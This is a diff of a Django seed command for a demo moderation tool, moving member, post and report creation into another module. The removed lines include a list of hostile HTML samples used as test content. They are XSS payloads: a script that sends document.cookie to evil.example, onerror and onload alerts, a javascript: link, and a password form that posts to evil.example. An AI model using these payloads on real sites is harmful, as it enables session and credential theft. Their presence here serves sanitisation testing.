@@ -1,5 +1,6 @@
-"""Seed a demo database: staff users per role, queues, members, items, reports, reasons,
-audit events and background jobs, at realistic volumes quickly.
+"""Seed the demo product: staff users per role, queues, reason templates, the forum's
+members, posts and comments reported through steward.report (forum/seed/content.py),
+audit events and background jobs on both backends (forum/seed/jobs.py), quickly.
 
 Running it again does not duplicate anything: users and queues are updated in place,
 items are only created when there are none (or after --reset), and --audit N / --jobs N
@@ -19,6 +20,7 @@ from django.core.management.base import BaseCommand
 from django.db import connection, transaction
 from django.utils import timezone
 
+from forum.seed.content import MEMBER_PASSWORD, reset_content, seed_content
 from forum.seed.jobs import seed_jobs
 from steward.models import (
     AuditEvent,
@@ -26,7 +28,6 @@ from steward.models import (
     IdempotencyRecord,
     Item,
     Job,
-    Member,
     Queue,
     ReasonTemplate,
     Report,
@@ -63,59 +64,6 @@ REASON_TEMPLATES = [
     ("account", "appeal-granted", "Appeal granted", "Reactivated after appeal.", []),
 ]
 
-TOPICS = [
-    "my sourdough starter",
-    "the new release",
-    "weekend hiking trip",
-    "home network setup",
-    "the city council vote",
-    "learning Rust",
-    "vintage synthesizers",
-    "balcony tomatoes",
-    "the football match",
-    "remote work",
-    "a used car purchase",
-    "my cat's diet",
-]
-
-TITLES = [
-    "Thoughts on {t}",
-    "Question about {t}",
-    "Anyone else tried {t}?",
-    "Update on {t}",
-    "Hot take: {t} is overrated",
-    "Help needed with {t}",
-    "Photos from {t}",
-]
-
-BODIES = [
-    "<p>I have been thinking about <b>{t}</b> for a while. What do you all think?</p>",
-    "<p>Quick question about {t}:</p><ul><li>Is it worth it?</li><li>Any tips?</li></ul>",
-    '<p>Here is my write-up on {t}. <a href="https://example.com/post">Full post</a>.</p>',
-    '<p>BUY CHEAP WATCHES NOW!!! best prices on {t} <a href="https://spam.example">click</a></p>',
-    "<p>You are an idiot if you disagree about {t}. Everyone like you should leave.</p>",
-    "<blockquote>Someone said {t} was fine.</blockquote><p>I disagree, strongly.</p>",
-]
-
-HOSTILE_BODIES = [
-    "<p>Nice post!</p><script>fetch('https://evil.example/steal?c='+document.cookie)</script>",
-    "<p>Look at this</p><img src=x onerror=\"alert('xss')\">",
-    '<p><a href="javascript:alert(document.domain)">Click for a prize</a></p>',
-    '<svg onload="alert(1)"><circle r="10"/></svg><p>Cute circle</p>',
-    '<p>Tracking pixel ahead</p><img src="http://127.0.0.1:9/x.png" width="1" height="1">',
-    '<iframe src="https://evil.example/"></iframe><p>Embedded thing</p>',
-    '<p style="background:url(http://127.0.0.1:9/bg.png)">Styled</p><form action="https://evil.example"><input name=password></form>',
-]
-
-REASONS = [
-    ("spam", "Looks like advertising"),
-    ("harassment", "Insults another member"),
-    ("nsfw", "Not safe for work image"),
-    ("other", "Something feels off"),
-    ("spam", ""),
-    ("other", "Possible scam link"),
-]
-
 
 class Command(BaseCommand):
     help = "Create demo staff users, queues, members, items and reports."
@@ -143,13 +91,14 @@ class Command(BaseCommand):
             if options["reset"]:
                 self._reset()
             passwords = self._users(options["password"])
-            queues = self._queues()
+            self._queues()
             self._reason_templates()
             if Item.objects.exists():
                 self.stdout.write("Items already exist; not adding more (use --reset).")
             else:
-                count = self._items(rng, queues, options["items"])
-                self.stdout.write(f"Created {count} items.")
+                moderator = get_user_model().objects.get(username="moderator")
+                count = seed_content(rng, options["items"], moderator)
+                self.stdout.write(f"Created {count} reported posts and comments.")
             added_jobs = seed_jobs(rng, options["jobs"])
             if added_jobs:
                 self.stdout.write(f"Created {added_jobs} jobs.")
@@ -159,6 +108,7 @@ class Command(BaseCommand):
         self.stdout.write("Demo users (username / password):")
         for username, password in passwords.items():
             self.stdout.write(f"  {username} / {password}")
+        self.stdout.write(f"Forum members: member0000, member0001, ... / {MEMBER_PASSWORD}")
 
     def _reset(self):
         # Audit events stay: they are append-only, --reset or not.
@@ -166,8 +116,7 @@ class Command(BaseCommand):
         IdempotencyRecord.objects.all().delete()
         Decision.objects.all().delete()
         Report.objects.all().delete()
-        Item.objects.all().delete()
-        Member.objects.all().delete()
+        reset_content()
 
     def _users(self, shared_password):
         user_model = get_user_model()
@@ -202,72 +151,6 @@ class Command(BaseCommand):
                 code=code,
                 defaults={"label": label, "text": text, "actions": actions, "position": position},
             )
-
-    def _items(self, rng, queues, count):
-        now = timezone.now()
-        members = Member.objects.bulk_create(
-            [
-                Member(
-                    username=f"member{n:04d}",
-                    display_name=f"Member {n}",
-                    # Some addresses are broken, as in any real product: the password reset
-                    # job fails on them.
-                    email=f"member{n:04d}(at)example.com"
-                    if n % 13 == 5
-                    else f"member{n:04d}@example.com",
-                    roles=["member", "trusted"] if n % 7 == 0 else ["member"],
-                    status=Member.Status.SUSPENDED if n % 17 == 0 else Member.Status.ACTIVE,
-                    joined_at=now - timedelta(days=rng.randint(1, 900)),
-                    last_seen_at=now - timedelta(minutes=rng.randint(1, 60 * 24 * 30)),
-                    updated_at=now,
-                )
-                for n in range(max(10, count // 5))
-            ]
-        )
-        items = []
-        for n in range(count):
-            topic = rng.choice(TOPICS)
-            if n % 25 == 3:
-                body = HOSTILE_BODIES[(n // 25) % len(HOSTILE_BODIES)]
-            else:
-                body = rng.choice(BODIES).format(t=topic)
-            created = now - timedelta(minutes=rng.randint(5, 60 * 24 * 7))
-            state = Item.State.OPEN
-            if n % 10 == 9:
-                state = rng.choice([Item.State.APPROVED, Item.State.REMOVED, Item.State.IGNORED])
-            items.append(
-                Item(
-                    queue=queues[n % len(queues)],
-                    author=rng.choice(members),
-                    title=rng.choice(TITLES).format(t=topic),
-                    body_html=body,
-                    state=state,
-                    version=1 if state == Item.State.OPEN else 2,
-                    created_at=created,
-                    updated_at=created,
-                )
-            )
-        # Make sure the very first items include every hostile sample, whatever --items is.
-        for index, body in enumerate(HOSTILE_BODIES[: len(items)]):
-            items[index].body_html = body
-            items[index].title = f"Hostile sample {index + 1}"
-            items[index].state = Item.State.OPEN
-            items[index].version = 1
-        items = Item.objects.bulk_create(items)
-        reports = []
-        for item in items:
-            for _ in range(rng.randint(1, 3)):
-                reason, note = rng.choice(REASONS)
-                reports.append(
-                    Report(
-                        item=item,
-                        reason=reason,
-                        note=note,
-                        created_at=item.created_at + timedelta(minutes=rng.randint(0, 120)),
-                    )
-                )
-        Report.objects.bulk_create(reports)
-        return len(items)
 
     def _audit(self, target):
         missing = target - AuditEvent.objects.count()
